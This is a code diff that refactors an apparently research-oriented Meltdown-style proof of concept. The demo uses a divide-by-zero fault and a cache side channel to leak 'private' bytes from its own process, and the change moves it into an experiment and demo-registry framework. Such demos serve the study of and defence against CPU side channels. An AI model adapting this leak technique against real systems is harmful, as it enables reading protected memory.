@@ -26,12 +26,17 @@
 #include <array>
 #include <cstring>
 #include <iostream>
+#include <string>
 
 #include "cache_sidechannel.h"
-#include "faults.h"
+#include "demo_registry.h"
+#include "experiment.h"
+#include "fault_suppression.h"
 #include "instr.h"
 #include "utils.h"
 
+namespace {
+
 const char *public_data = "Hello, world!";
 
 constexpr size_t kPrivateDataLength = 16;
@@ -56,20 +61,27 @@ const char *private_data[kPrivateDataLength] = {
   "XX!",
 };
 
+}  // namespace
+
 // We must store zero and one as a global variables to avoid optimizing them
 // out.
 size_t zero = 0;
 size_t two = 2;
 
-static char LeakByte(size_t offset) {
-  CacheSideChannel sidechannel;
+static ExperimentOutcome LeakByte(CacheSideChannel &sidechannel,
+                                  size_t offset,
+                                  const ExperimentBudget &budget) {
+  sidechannel.ResetScores();
   const std::array<BigByte, 256> &isolated_oracle = sidechannel.GetOracle();
+  // Sets up the fault suppression once for all runs.
+  FaultSuppressor suppressor(SIGFPE);
 
-  for (int run = 0;; ++run) {
+  return RunExperiment(sidechannel, budget, [&](int run) {
     size_t safe_offset = run % strlen(public_data);
     sidechannel.FlushOracle();
 
-    bool handled_fault = RunWithFaultHandler(SIGFPE, [&]() {
+    MarkPhase(ExperimentPhase::kTrigger);
+    bool handled_fault = suppressor.Run([&]() {
       ForceRead(isolated_oracle.data() + static_cast<size_t>(
           public_data[safe_offset]));
 
@@ -85,26 +97,25 @@ static char LeakByte(size_t offset) {
       exit(EXIT_FAILURE);
     }
 
-    std::pair<bool, char> result =
-        sidechannel.RecomputeScores(public_data[safe_offset]);
-
-    if (result.first) {
-      return result.second;
-    }
-
-    if (run > 100000) {
-      std::cerr << "Does not converge " << result.second << std::endl;
-      exit(EXIT_FAILURE);
-    }
-  }
+    MarkPhase(ExperimentPhase::kProbe);
+    return sidechannel.RecomputeScores(public_data[safe_offset]);
+  });
 }
 
-int main() {
-  std::cout << "Leaking the string: ";
-  std::cout.flush();
+static void RunDemo(DemoContext &context) {
+  CacheSideChannel &sidechannel = context.sidechannel();
+  std::string expected;
+  for (size_t i = 0; i < kPrivateDataLength; ++i) {
+    expected += private_data[i][2];
+  }
+  context.BeginLeak(expected);
   for (size_t i = 0; i < kPrivateDataLength; ++i) {
-    std::cout << LeakByte(i);
-    std::cout.flush();
+    ExperimentOutcome outcome = LeakByte(sidechannel, i, context.budget());
+    if (!context.ReportByte(outcome)) {
+      break;
+    }
   }
-  std::cout << "\nDone!\n";
+  context.EndLeak();
 }
+
+SAFESIDE_REGISTER_DEMO(meltdown_de, RunDemo);